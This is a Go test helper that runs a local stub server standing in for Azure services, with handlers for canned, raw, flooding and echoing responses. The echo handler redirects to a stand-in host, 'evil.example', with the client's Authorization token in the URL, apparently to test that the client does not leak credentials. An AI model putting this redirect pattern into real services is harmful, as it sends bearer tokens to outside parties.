package e2e

import (
	"crypto/tls"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"sync"
	"testing"
	"time"

	"skr/test/emulator"
)

// stub is a server of the test in the place of an Azure service. It speaks HTTP/1.1.
type stub struct {
	port    string
	answers sync.Map // of http.HandlerFunc, by host
}

// newStub answers over TLS with names of the cloud's CA, or in plain HTTP if cloud is nil.
func newStub(t *testing.T, cloud *emulator.Cloud) *stub {
	t.Helper()
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	s := new(stub)
	_, s.port, _ = net.SplitHostPort(listener.Addr().String())
	if cloud != nil {
		every := func(string) bool { return true }
		listener = tls.NewListener(listener, &tls.Config{GetCertificate: cloud.Authority().GetCertificate(every), MinVersion: tls.VersionTLS12})
	}
	server := &http.Server{
		Handler:           s,
		ReadHeaderTimeout: time.Minute,
	}
	go func() { _ = server.Serve(listener) }()
	t.Cleanup(func() { _ = server.Close() })
	return s
}

func (s *stub) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if answer, ok := s.answers.Load(r.Host); ok {
		answer.(http.HandlerFunc)(w, r)
	}
}

// say sets the answer of a host from now on.
func (s *stub) say(host string, answer http.HandlerFunc) { s.answers.Store(host, answer) }

// text answers with a status and a body.
func text(status int, body string) http.HandlerFunc {
	return func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(status)
		_, _ = io.WriteString(w, body)
	}
}

// bytesOnWire answers with exactly these bytes. It keeps the connection open until the
// client closes it.
func bytesOnWire(raw string) http.HandlerFunc {
	return func(w http.ResponseWriter, _ *http.Request) {
		conn, _, err := http.NewResponseController(w).Hijack()
		if err != nil {
			return
		}
		defer func() { _ = conn.Close() }()
		_, _ = io.WriteString(conn, raw)
		_ = conn.SetReadDeadline(time.Now().Add(20 * time.Second))
		_, _ = io.Copy(io.Discard, conn)
	}
}

// flood repeats the same bytes until the client stops reading.
func flood(head, again string) http.HandlerFunc {
	return func(w http.ResponseWriter, _ *http.Request) {
		conn, _, err := http.NewResponseController(w).Hijack()
		if err != nil {
			return
		}
		defer func() { _ = conn.Close() }()
		_, err = io.WriteString(conn, head)
		for end := time.Now().Add(10 * time.Second); err == nil && time.Now().Before(end); {
			_, err = io.WriteString(conn, again)
		}
	}
}

// echo repeats what was sent, as debugging proxies and some services do.
func echo(status int, form string) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		sent := r.Header.Get("Authorization") + " " + string(body)
		quoted, _ := json.Marshal(sent)
		w.Header().Set("Location", "https://evil.example/?"+r.Header.Get("Authorization"))
		w.Header().Set("WWW-Authenticate", `Bearer error="invalid_token", error_description=`+string(quoted[:min(len(quoted), 4000)]))
		w.WriteHeader(status)
		_, _ = fmt.Fprintf(w, form, quoted)
	}
}

const azureError = `{"error":{"code":"BadParameter","message":%[1]s,"innererror":{"code":%[1]s}}}`
